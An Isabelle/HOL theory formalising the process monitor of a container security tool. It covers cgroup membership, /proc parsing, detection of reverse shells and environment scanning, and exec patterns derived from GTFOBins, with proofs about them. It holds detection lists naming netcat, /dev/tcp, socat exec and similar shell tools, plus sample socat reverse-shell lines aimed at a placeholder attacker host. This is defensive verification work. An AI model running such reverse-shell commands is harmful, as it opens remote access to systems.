(* ===== verification/MonProcess.thy ===== *)
theory MonProcess
  imports MonCgroup "HOL-Library.List_Lexorder" "HOL-Library.Char_ord" "HOL-Library.Multiset" "HOL-Library.AList"
begin

text \<open>
  The process side of the monitor: \<open>internal/monitor/process.go\<close> (which host processes belong to a container,
  what \<open>/proc\<close> says of them, reverse shells, environment scans, process counts), the exec patterns of
  \<open>internal/monitor/procwatcher.go\<close> and how \<open>internal/monitor/gtfobins.go\<close> derives more of them.

  Lower-casing and digits are those of ASCII, and the code examples of GTFOBins are taken as the valid UTF-8 that
  YAML text is. The lemmas show that membership respects path boundaries, that the derived keywords do not
  depend on the order in which Go iterates over a map, and that the spawn-rate test has no false alarm after a gap.
\<close>

record Process =
  PID :: int
  PPID :: int
  User :: string
  Command :: string
  EnvAccess :: bool

record ProcessStats =
  Available :: bool
  TotalCount :: int
  Processes :: "Process list"

record ProcessThreat =
  ptPID :: int
  ptCommand :: string
  ptUser :: string
  ptPattern :: string
  Indicators :: "string list"

record ProcessCountThreat =
  Count :: int
  Threshold :: int
  Delta :: int

section \<open>The processes of a container\<close>

definition processBelongsToContainerCgroup :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "processBelongsToContainerCgroup content rel = list_ex (\<lambda>line. has_prefix line ''0::'' \<and>
     (let p = trim_space (trim_prefix line ''0::'') in p = rel \<or> has_prefix p (rel @ ''/''))) (str_split content [CHR 0x0A])"

text \<open>The last line of each kind wins; a missing number is 0.\<close>

fun statusFields :: "string list \<Rightarrow> string \<times> int \<times> int \<Rightarrow> string \<times> int \<times> int" where
  "statusFields [] acc = acc"
| "statusFields (line # ls) (name, ppid, uid) = (let fs = str_fields line; num = (\<lambda>s. case atoi s of Some n \<Rightarrow> n | None \<Rightarrow> 0) in
     statusFields ls (if length fs < 2 then (name, ppid, uid)
       else if fs ! 0 = ''Name:'' then (fs ! 1, ppid, uid)
       else if fs ! 0 = ''PPid:'' then (name, num (fs ! 1), uid)
       else if fs ! 0 = ''Uid:'' then (name, ppid, num (fs ! 1)) else (name, ppid, uid)))"

definition parseStatusFields :: "string \<Rightarrow> string \<times> int \<times> int" where
  "parseStatusFields status = statusFields (str_split status [CHR 0x0A]) ([], 0, 0)"

definition trim_right :: "char set \<Rightarrow> string \<Rightarrow> string" where
  "trim_right cs s = rev (dropWhile (\<lambda>c. c \<in> cs) (rev s))"

definition parseCmdline :: "string \<Rightarrow> string" where
  "parseCmdline s = (let t = trim_right {CHR 0x00} s in if t = [] then [] else str_join '' '' (str_split t [CHR 0x00]))"

definition readProcessFromProc :: "'w procfs \<Rightarrow> int \<Rightarrow> ('w, Process) act" where
  "readProcessFromProc P pid = bindA (ReadFile P (''/proc/'' @ itoa_int pid @ ''/status'')) (\<lambda>status.
     let (name, ppid, uid) = parseStatusFields status in
     bindA (tryA (ReadFile P (''/proc/'' @ itoa_int pid @ ''/cmdline''))) (\<lambda>r.
     retA \<lparr>PID = pid, PPID = ppid, User = itoa_int uid,
       Command = (case r of Inl _ \<Rightarrow> name | Inr d \<Rightarrow> if d = [] then name else parseCmdline d), EnvAccess = False\<rparr>))"

fun walkPids :: "'w procfs \<Rightarrow> string \<Rightarrow> (string \<times> bool) list \<Rightarrow> ('w, Process list) act" where
  "walkPids P rel [] w = (Inr [], w)"
| "walkPids P rel ((name, dir) # es) w = (case CtxErr P w of Some e \<Rightarrow> (Inl e, w) | None \<Rightarrow>
     if \<not> dir then walkPids P rel es w else
     case atoi name of None \<Rightarrow> walkPids P rel es w | Some pid \<Rightarrow>
     (case ReadFile P (''/proc/'' @ itoa_int pid @ ''/cgroup'') w of
        (Inl _, w1) \<Rightarrow> walkPids P rel es w1
      | (Inr text, w1) \<Rightarrow>
          if \<not> processBelongsToContainerCgroup text rel then walkPids P rel es w1 else
          (case readProcessFromProc P pid w1 of
             (Inl _, w2) \<Rightarrow> walkPids P rel es w2
           | (Inr p, w2) \<Rightarrow> (case walkPids P rel es w2 of
               (Inl e, w3) \<Rightarrow> (Inl e, w3) | (Inr ps, w3) \<Rightarrow> (Inr (p # ps), w3)))))"

definition cgroupMount :: string where "cgroupMount = ''/sys/fs/cgroup''"

definition collectProcessesViaHostProc :: "'w procfs \<Rightarrow> 'w incus \<Rightarrow> string \<Rightarrow> ('w, Process list) act" where
  "collectProcessesViaHostProc P I c w = (case GetCgroupPath P I c w of
     (Inl e, w1) \<Rightarrow> (Inl (case CtxErr P w1 of Some e' \<Rightarrow> e' | None \<Rightarrow> Wrapf ''could not resolve container cgroup path'' e), w1)
   | (Inr raw, w1) \<Rightarrow> (let path = stripSystemdScopeSuffix raw; rel = trim_prefix path cgroupMount in
       if rel = path then (Inl (Errorf ''unexpected cgroup path format (no %s prefix): %s'' [cgroupMount, path]), w1)
       else (case ReadDir P ''/proc'' w1 of
          (Inl e, w2) \<Rightarrow> (Inl (Wrapf ''could not read /proc'' e), w2)
        | (Inr es, w2) \<Rightarrow> (case walkPids P rel es w2 of
            (Inl e, w3) \<Rightarrow> (Inl e, w3)
          | (Inr ps, w3) \<Rightarrow>
              (if ps = [] then Inl (Errorf ''no processes found in container cgroup %s'' [rel]) else Inr ps, w3)))))"

section \<open>Environment access\<close>

definition checkEnvAccess :: "string \<Rightarrow> bool" where
  "checkEnvAccess command = (let c = to_lower command; has = str_contains c in
     list_ex (\<lambda>e. has_prefix c (e @ '' '') \<or> c = e) [''env'', ''printenv'', ''set'', ''export''] \<or>
     ((has ''grep'' \<or> has ''awk'' \<or> has ''sed'') \<and>
        list_ex has [''api'', ''key'', ''password'', ''secret'', ''token'', ''credential'', ''auth'']) \<or>
     (has ''/proc/'' \<and> has ''environ'') \<or>
     list_ex has [''os.environ'', ''os.getenv'', ''process.env'', ''env['', ''environ[''] \<or>
     list_ex (\<lambda>t. has t \<and> has ''environ'') [''strings /proc'', ''xxd /proc'', ''hexdump /proc'', ''xargs''] \<or>
     (has ''xargs'' \<and> has ''/proc/''))"

definition CollectProcessStats :: "'w procfs \<Rightarrow> 'w incus \<Rightarrow> string \<Rightarrow> ('w, ProcessStats) act" where
  "CollectProcessStats P I c = bindA (wrapA ''process monitoring unavailable'' (collectProcessesViaHostProc P I c)) (\<lambda>ps.
     retA \<lparr>Available = True, TotalCount = int (length ps),
       Processes = map (\<lambda>p. p\<lparr>EnvAccess := checkEnvAccess (Command p)\<rparr>) ps\<rparr>)"

definition DetectEnvScanning :: "Process list \<Rightarrow> ProcessThreat list" where
  "DetectEnvScanning ps = map (\<lambda>p. \<lparr>ptPID = PID p, ptCommand = Command p, ptUser = User p,
     ptPattern = ''environment scanning'', Indicators = [''accessing environment variables'']\<rparr>) (filter EnvAccess ps)"

section \<open>Reverse shells\<close>

definition reverseShellPatterns :: "(string \<times> string list) list" where
  "reverseShellPatterns = [(''nc -e'', [''netcat with exec'']), (''nc.traditional -e'', [''netcat with exec'']),
     (''ncat -e'', [''ncat with exec'']), (''nc.openbsd -e'', [''netcat with exec'']),
     (''bash -i'', [''interactive bash'']), (''sh -i'', [''interactive shell'']),
     (''/dev/tcp/'', [''bash tcp redirect'']), (''/dev/udp/'', [''bash udp redirect'']),
     (''python -c'', [''python one-liner'']), (''python3 -c'', [''python one-liner'']), (''socket.socket'', [''python socket'']),
     (''perl -e'', [''perl one-liner'']), (''perl -MIO'', [''perl IO module'']),
     (''php -r'', [''php one-liner'']), (''fsockopen'', [''php socket'']),
     (''ruby -rsocket'', [''ruby socket'']), (''ruby -e'', [''ruby one-liner'']),
     (''socat'', [''socat'']), (''EXEC:'', [''socat exec'']),
     (''powershell'', [''powershell'']), (''System.Net.Sockets'', [''dotnet sockets''])]"

definition containsIPPattern :: "string \<Rightarrow> bool" where
  "containsIPPattern cmd = list_ex (\<lambda>part. let octets = str_split part ''.'' in
     length octets = 4 \<and> list_all (\<lambda>oc. atoi oc \<noteq> None) octets) (str_fields cmd)"

definition networkRelated :: "string \<Rightarrow> bool" where
  "networkRelated c \<longleftrightarrow> list_ex (str_contains c) ['':'', ''sock'', ''tcp'', ''udp''] \<or> containsIPPattern c"

fun firstShell :: "Process \<Rightarrow> (string \<times> string list) list \<Rightarrow> ProcessThreat option" where
  "firstShell p [] = None"
| "firstShell p ((pat, ind) # ps) = (let c = to_lower (Command p) in
     if str_contains c (to_lower pat) \<and> (networkRelated c \<or> pat = ''bash -i'' \<or> pat = ''sh -i'')
     then Some \<lparr>ptPID = PID p, ptCommand = Command p, ptUser = User p, ptPattern = pat, Indicators = ind\<rparr>
     else firstShell p ps)"

definition DetectReverseShells :: "Process list \<Rightarrow> ProcessThreat list" where
  "DetectReverseShells ps = List.map_filter (\<lambda>p. firstShell p reverseShellPatterns) ps"

section \<open>Process counts\<close>

definition DetectProcessCountSpike :: "ProcessStats \<Rightarrow> int \<Rightarrow> ProcessCountThreat option" where
  "DetectProcessCountSpike st threshold = (if threshold \<le> 0 \<or> \<not> Available st then None
     else if threshold < TotalCount st then Some \<lparr>Count = TotalCount st, Threshold = threshold, Delta = 0\<rparr> else None)"

definition DetectProcessSpawnRate :: "int \<Rightarrow> int \<Rightarrow> int \<Rightarrow> ProcessCountThreat option" where
  "DetectProcessSpawnRate current previous threshold = (if threshold \<le> 0 \<or> previous < 0 then None
     else let d = current - previous in
       if threshold < d then Some \<lparr>Count = current, Threshold = threshold, Delta = d\<rparr> else None)"

section \<open>Exec patterns\<close>

record execPattern =
  epName :: string
  Arg0 :: string
  Keywords :: "string list"

definition defaultExecPatterns :: "execPattern list" where
  "defaultExecPatterns = map (\<lambda>(n, a, ks). \<lparr>epName = n, Arg0 = a, Keywords = ks\<rparr>)
    [(''nc-exec'', ''nc'', [''-e'']), (''ncat-exec'', ''ncat'', [''-e'']),
     (''bash-tcp-redirect'', ''bash'', [''/dev/tcp/'']), (''bash-udp-redirect'', ''bash'', [''/dev/udp/'']),
     (''python3-socket'', ''python3'', [''socket.socket'']), (''python-socket'', ''python'', [''socket.socket'']),
     (''perl-socket'', ''perl'', [''-mio'']), (''perl-socket-connect'', ''perl'', [''sockaddr_in'']),
     (''socat-exec'', ''socat'', [''exec:'']), (''php-fsockopen'', ''php'', [''fsockopen'']),
     (''ruby-socket'', ''ruby'', [''-rsocket'']), (''node-reverse-shell'', ''node'', [''child_process'', ''net'']),
     (''lua-socket'', ''lua'', [''require('' @ [CHR 0x22] @ ''socket'' @ [CHR 0x22] @ '')'', '':connect('']),
     (''gawk-inet'', ''gawk'', [''/inet/tcp/'']), (''zsh-net-tcp'', ''zsh'', [''ztcp'']),
     (''busybox-nc-exec'', ''busybox'', [''nc'', ''-e'']), (''xmrig'', ''xmrig'', [])]"

definition arg0Base :: "string \<Rightarrow> string" where
  "arg0Base cmd = (let a = (case str_index cmd '' '' of Some i \<Rightarrow> take i cmd | None \<Rightarrow> cmd) in
     to_lower (case last_index a (CHR ''/'') of Some i \<Rightarrow> drop (Suc i) a | None \<Rightarrow> a))"

fun matchPatterns :: "string \<Rightarrow> string \<Rightarrow> execPattern list \<Rightarrow> string" where
  "matchPatterns base lower [] = []"
| "matchPatterns base lower (p # ps) = (
     if (Arg0 p = [] \<or> has_prefix base (to_lower (Arg0 p))) \<and> list_all (str_contains lower) (Keywords p)
     then epName p else matchPatterns base lower ps)"

definition matchSuspiciousExec :: "string \<Rightarrow> execPattern list \<Rightarrow> string" where
  "matchSuspiciousExec cmd ps = (if cmd = [] then [] else matchPatterns (arg0Base cmd) (to_lower cmd) ps)"

text \<open>Derived patterns come first; a default of the same name is left out.\<close>

definition mergePatterns :: "execPattern list \<Rightarrow> execPattern list" where
  "mergePatterns external = (if external = [] then defaultExecPatterns
     else external @ filter (\<lambda>p. epName p \<notin> set (map epName external)) defaultExecPatterns)"

section \<open>Patterns derived from GTFOBins\<close>

definition genericTokens :: "string list" where
  "genericTokens = [''sh'', ''bash'', ''bin'', ''exec'', ''tcp'', ''udp'', ''stdin'', ''stdout'', ''stderr'',
     ''true'', ''false'', ''while'', ''do'', ''done'', ''if'', ''fi'', ''then'', ''else'', ''for'', ''in'', ''end'',
     ''cat'', ''echo'', ''printf'', ''read'', ''local'', ''exit'', ''kill'', ''wait'', ''sleep'', ''set'', ''unset'',
     ''export'', ''source'', ''return'', ''break'', ''continue'', ''function'']"

definition gtfobinsIsNumeric :: "string \<Rightarrow> bool" where
  "gtfobinsIsNumeric s \<longleftrightarrow> s \<noteq> [] \<and> list_all is_digit s"

definition gtfobinsIsDistinctive :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "gtfobinsIsDistinctive token binaryName \<longleftrightarrow> \<not> (length token < 2) \<and> token \<noteq> to_lower binaryName \<and> token \<notin> set genericTokens \<and>
     \<not> (str_contains token ''attacker'' \<or> str_contains token ''/path/to'' \<or> str_contains token ''0.0.0.0'') \<and>
     \<not> gtfobinsIsNumeric token \<and> \<not> (length token = 2 \<and> (hd token = CHR ''-'' \<or> hd token = CHR ''$'')) \<and>
     hd token \<noteq> CHR ''*''"

definition gtfoDelimiters :: "char list" where
  "gtfoDelimiters = '' ;|&><(){}[],='' @ [CHR 0x27, CHR 0x22, CHR 0x60, CHR 0x09, CHR 0x0D, CHR 0x0A]"

fun tokens_acc :: "string \<Rightarrow> string \<Rightarrow> string list" where
  "tokens_acc cur [] = (if cur = [] then [] else [rev cur])"
| "tokens_acc cur (c # cs) = (if c \<in> set gtfoDelimiters then (if cur = [] then [] else [rev cur]) @ tokens_acc [] cs
     else tokens_acc (c # cur) cs)"

definition gtfobinsTokenise :: "string \<Rightarrow> string list" where
  "gtfobinsTokenise code = tokens_acc [] code"

text \<open>\<open>None\<close> is the early return of the empty string.\<close>

fun cutPlaceholders :: "string list \<Rightarrow> string \<Rightarrow> string option" where
  "cutPlaceholders [] token = Some token"
| "cutPlaceholders (ph # phs) token = (case str_index token ph of
     None \<Rightarrow> cutPlaceholders phs token
   | Some idx \<Rightarrow> if idx = 0 then None else cutPlaceholders phs (trim_right {CHR '':'', CHR ''.''} (take idx token)))"

definition gtfobinsStripPlaceholders :: "string \<Rightarrow> string" where
  "gtfobinsStripPlaceholders token0 = (case cutPlaceholders [''attacker.com'', ''attacker'', ''/path/to''] (to_lower token0) of
     None \<Rightarrow> []
   | Some token \<Rightarrow> (let parts = str_split token ''/''; slash = (last parts = []);
         kept = rev (dropWhile gtfobinsIsNumeric (rev (if slash then butlast parts else parts))) in
       str_join ''/'' kept @ (if slash then ''/'' else [])))"

text \<open>The counts of the candidate tokens: each example counts a token once.\<close>

fun countTokens :: "string \<Rightarrow> string list \<Rightarrow> string list \<Rightarrow> (string \<times> nat) list \<Rightarrow> (string \<times> nat) list" where
  "countTokens bin [] seen cand = cand"
| "countTokens bin (raw # raws) seen cand = (let token = to_lower (gtfobinsStripPlaceholders raw) in
     if token = [] \<or> \<not> gtfobinsIsDistinctive token bin \<or> token \<in> set seen then countTokens bin raws seen cand
     else countTokens bin raws (token # seen)
       (AList.update token (Suc (case map_of cand token of Some n \<Rightarrow> n | None \<Rightarrow> 0)) cand))"

definition candidates :: "string \<Rightarrow> string list \<Rightarrow> (string \<times> nat) list" where
  "candidates bin codes = fold (\<lambda>code cand. countTokens bin (gtfobinsTokenise code) [] cand) codes []"

text \<open>The exchange sort: one pass of the inner loop leaves the least element in front.\<close>

definition beforeKV :: "string \<times> nat \<Rightarrow> string \<times> nat \<Rightarrow> bool" where
  "beforeKV x y \<longleftrightarrow> snd y < snd x \<or> (snd x = snd y \<and> fst x < fst y)"

fun exchangePass :: "string \<times> nat \<Rightarrow> (string \<times> nat) list \<Rightarrow> (string \<times> nat) \<times> (string \<times> nat) list" where
  "exchangePass x [] = (x, [])"
| "exchangePass x (y # ys) = (if beforeKV y x then let (m, r) = exchangePass y ys in (m, x # r)
     else let (m, r) = exchangePass x ys in (m, y # r))"

lemma length_exchangePass [simp]: "length (snd (exchangePass x ys)) = length ys"
  by (induction x ys rule: exchangePass.induct) (auto split: prod.split)

function exchangeSort :: "(string \<times> nat) list \<Rightarrow> (string \<times> nat) list" where
  "exchangeSort [] = []"
| "exchangeSort (x # xs) = fst (exchangePass x xs) # exchangeSort (snd (exchangePass x xs))"
  by pat_completeness auto
termination by (relation "measure length") simp_all

text \<open>\<open>iter\<close> gives the order in which Go iterates over the map of candidates.\<close>

definition deriveKeywords :: "((string \<times> nat) list \<Rightarrow> (string \<times> nat) list) \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> string list" where
  "deriveKeywords iter bin codes = map fst (take 2 (exchangeSort (iter (candidates bin codes))))"

text \<open>A parsed file: its alias and, for each function, the code of its examples.\<close>

record gtfoBinFile =
  gtfoAlias :: string
  Functions :: "(string \<times> string list) list"

definition gtfoPattern ::
  "((string \<times> nat) list \<Rightarrow> (string \<times> nat) list) \<Rightarrow> string \<Rightarrow> gtfoBinFile \<Rightarrow> execPattern option" where
  "gtfoPattern iter bin gf = (if gtfoAlias gf \<noteq> [] then None else
     case map_of (Functions gf) ''reverse-shell'' of None \<Rightarrow> None | Some codes \<Rightarrow>
     let kws = deriveKeywords iter bin codes in
     if codes = [] \<or> kws = [] then None else Some \<lparr>epName = bin @ ''-reverse-shell'', Arg0 = bin, Keywords = kws\<rparr>)"

text \<open>\<open>sizeOf\<close> is \<open>entry.Info()\<close>, \<open>None\<close> an error; \<open>unmarshal\<close> the YAML parser.\<close>

fun loadBins :: "'w procfs \<Rightarrow> (string \<Rightarrow> nat option) \<Rightarrow> (string \<Rightarrow> string \<Rightarrow> execPattern option) \<Rightarrow> string \<Rightarrow> (string \<times> bool) list
    \<Rightarrow> 'w \<Rightarrow> execPattern list \<times> 'w" where
  "loadBins P sizeOf compile dir [] w = ([], w)"
| "loadBins P sizeOf compile dir ((name, isdir) # es) w = (
     if isdir \<or> (case sizeOf name of None \<Rightarrow> True | Some n \<Rightarrow> 2 ^ 20 < n) then loadBins P sizeOf compile dir es w
     else case ReadFile P (path_join [dir, name]) w of
       (Inl _, w1) \<Rightarrow> loadBins P sizeOf compile dir es w1
     | (Inr text, w1) \<Rightarrow> (let (ps, w2) = loadBins P sizeOf compile dir es w1 in
         (case compile name text of None \<Rightarrow> ps | Some p \<Rightarrow> p # ps, w2)))"

definition loadExecPatternsFromGTFOBins ::
  "'w procfs \<Rightarrow> (string \<Rightarrow> nat option) \<Rightarrow> (string \<Rightarrow> gtfoBinFile option) \<Rightarrow> ((string \<times> nat) list \<Rightarrow> (string \<times> nat) list) \<Rightarrow>
     string \<Rightarrow> 'w \<Rightarrow> execPattern list \<times> 'w" where
  "loadExecPatternsFromGTFOBins P sizeOf unmarshal iter cloneDir w = (let dir = path_join [cloneDir, ''_gtfobins''] in
     case ReadDir P dir w of
       (Inl _, w1) \<Rightarrow> ([], w1)
     | (Inr es, w1) \<Rightarrow> loadBins P sizeOf (\<lambda>bin text. Option.bind (unmarshal text) (gtfoPattern iter bin)) dir es w1)"

definition loadExecPatterns ::
  "'w procfs \<Rightarrow> (string \<Rightarrow> nat option) \<Rightarrow> (string \<Rightarrow> gtfoBinFile option) \<Rightarrow> ((string \<times> nat) list \<Rightarrow> (string \<times> nat) list) \<Rightarrow>
     string \<Rightarrow> 'w \<Rightarrow> execPattern list \<times> 'w" where
  "loadExecPatterns P sizeOf unmarshal iter cloneDir w = (let (ps, w1) = loadExecPatternsFromGTFOBins P sizeOf unmarshal iter cloneDir w in
     (mergePatterns ps, w1))"

section \<open>The keywords do not depend on the order of the map\<close>

lemma beforeKV_total: "x \<noteq> y \<Longrightarrow> beforeKV x y \<or> beforeKV y x"
  by (cases x; cases y) (auto simp: beforeKV_def)

lemma beforeKV_trans: "beforeKV x y \<Longrightarrow> beforeKV y z \<Longrightarrow> beforeKV x z"
  by (auto simp: beforeKV_def)

lemma beforeKV_asym: "beforeKV x y \<Longrightarrow> \<not> beforeKV y x"
  by (auto simp: beforeKV_def)

lemma exchangePass_mset: "add_mset (fst (exchangePass x ys)) (mset (snd (exchangePass x ys))) = add_mset x (mset ys)"
  by (induction x ys rule: exchangePass.induct) (auto split: prod.splits)

lemma exchangePass_least: "\<forall>y \<in> insert x (set ys). \<not> beforeKV y (fst (exchangePass x ys))"
proof (induction x ys rule: exchangePass.induct)
  case (1 x)
  then show ?case by (simp add: beforeKV_def)
next
  case (2 x y ys)
  show ?case
  proof (cases "beforeKV y x")
    case True
    with "2.IH"(1) have l: "\<forall>z \<in> insert y (set ys). \<not> beforeKV z (fst (exchangePass y ys))" by simp
    with True have "\<not> beforeKV x (fst (exchangePass y ys))" using beforeKV_trans by blast
    with l True show ?thesis by (auto split: prod.split)
  next
    case False
    with "2.IH"(2) have l: "\<forall>z \<in> insert x (set ys). \<not> beforeKV z (fst (exchangePass x ys))" by simp
    then have "\<not> beforeKV y (fst (exchangePass x ys))"
      using False beforeKV_total[of x y] beforeKV_trans[of x y "fst (exchangePass x ys)"] by (cases "x = y") auto
    with l False show ?thesis by (auto split: prod.split)
  qed
qed

lemma mset_exchangeSort: "mset (exchangeSort xs) = mset xs"
  by (induction xs rule: exchangeSort.induct) (simp_all add: exchangePass_mset)

lemma sorted_exchangeSort: "sorted_wrt (\<lambda>x y. \<not> beforeKV y x) (exchangeSort xs)"
proof (induction xs rule: exchangeSort.induct)
  case (2 x xs)
  have "set (exchangeSort (snd (exchangePass x xs))) \<subseteq> insert x (set xs)"
    using exchangePass_mset[of x xs] mset_exchangeSort[of "snd (exchangePass x xs)"]
    by (metis insertI2 set_mset_add_mset_insert set_mset_mset subsetI)
  with exchangePass_least[of x xs] 2 show ?case by auto
qed simp

lemma sorted_unique:
  "mset xs = mset ys \<Longrightarrow> sorted_wrt (\<lambda>x y. \<not> beforeKV y x) xs \<Longrightarrow> sorted_wrt (\<lambda>x y. \<not> beforeKV y x) ys \<Longrightarrow> xs = ys"
proof (induction xs arbitrary: ys)
  case (Cons x xs)
  then obtain y ys' where y: "ys = y # ys'" by (cases ys) auto
  have "x = y"
  proof (rule ccontr)
    assume n: "x \<noteq> y"
    have "x \<in> set ys" "y \<in> set (x # xs)" using Cons.prems(1) y by (metis list.set_intros(1) mset_eq_setD)+
    with n y Cons.prems(2,3) have "\<not> beforeKV x y" "\<not> beforeKV y x" by auto
    with n beforeKV_total show False by blast
  qed
  with Cons y show ?case by auto
qed simp

text \<open>C33. The keywords derived from a GTFOBins entry are the same in whatever order Go iterates over the map of
  candidate tokens: at most two, and they are the tokens that come first by falling number of examples and then by
  name.\<close>

theorem keywords_deterministic:
  assumes "mset (iter (candidates bin codes)) = mset (candidates bin codes)"
  shows "\<exists>s. mset s = mset (candidates bin codes) \<and> sorted_wrt (\<lambda>x y. \<not> beforeKV y x) s \<and>
    deriveKeywords iter bin codes = map fst (take 2 s) \<and> deriveKeywords id bin codes = map fst (take 2 s)"
proof -
  let ?s = "exchangeSort (candidates bin codes)"
  have "exchangeSort (iter (candidates bin codes)) = ?s"
    by (rule sorted_unique) (simp_all add: mset_exchangeSort sorted_exchangeSort assms)
  then have "mset ?s = mset (candidates bin codes) \<and> sorted_wrt (\<lambda>x y. \<not> beforeKV y x) ?s \<and>
    deriveKeywords iter bin codes = map fst (take 2 ?s) \<and> deriveKeywords id bin codes = map fst (take 2 ?s)"
    by (simp add: deriveKeywords_def mset_exchangeSort sorted_exchangeSort)
  then show ?thesis by blast
qed

definition socatExamples :: "string list" where
  "socatExamples = [''socat tcp-connect:attacker.com:12345 exec:/bin/sh,pty'', ''socat udp-connect:attacker.com:12345 exec:/bin/sh'']"

lemma keywords_deterministic_witness:
  "deriveKeywords rev ''socat'' socatExamples = deriveKeywords id ''socat'' socatExamples \<and>
   deriveKeywords id ''socat'' socatExamples = [''exec:/bin/sh'', ''pty'']"
proof -
  have "deriveKeywords id ''socat'' socatExamples = [''exec:/bin/sh'', ''pty'']" by code_simp
  then show ?thesis using keywords_deterministic[of rev "''socat''" socatExamples] by auto
qed

text \<open>The crash of issue 505: a placeholder is looked for in the shortened token, so the cut is within it.\<close>

lemma placeholder_cut: "gtfobinsStripPlaceholders ''tcp-connect:attacker.com:12345'' = ''tcp-connect''"
  by code_simp

section \<open>Membership\<close>

text \<open>A process is the container's if its cgroup is the container's or below it, and not if the names share a prefix.\<close>

lemma belongs_iff:
  assumes "\<forall>c \<in> set p. \<not> is_space c"
  shows "processBelongsToContainerCgroup (''0::'' @ p @ [CHR 0x0A]) rel \<longleftrightarrow> p = rel \<or> has_prefix p (rel @ ''/'')"
proof -
  have n: "CHR 0x0A \<notin> set (''0::'' @ p)" using assms by (auto simp: is_space_def)
  have "str_split (''0::'' @ p @ [CHR 0x0A]) [CHR 0x0A] = [''0::'' @ p, []]"
    using str_split_char_app[OF n, of "[]"] by (simp add: str_split_char_notin)
  moreover have "trim_space p = p" using assms by (simp add: trim_space_id)
  ultimately show ?thesis by (simp add: processBelongsToContainerCgroup_def has_prefix_def trim_prefix_def Let_def)
qed

lemma sibling_excluded:
  "\<not> processBelongsToContainerCgroup (''0::/incus.payload/coi-11'' @ [CHR 0x0A]) ''/incus.payload/coi-1''"
  using belongs_iff[of "''/incus.payload/coi-11''" "''/incus.payload/coi-1''"] by (simp add: is_space_def has_prefix_def)

end
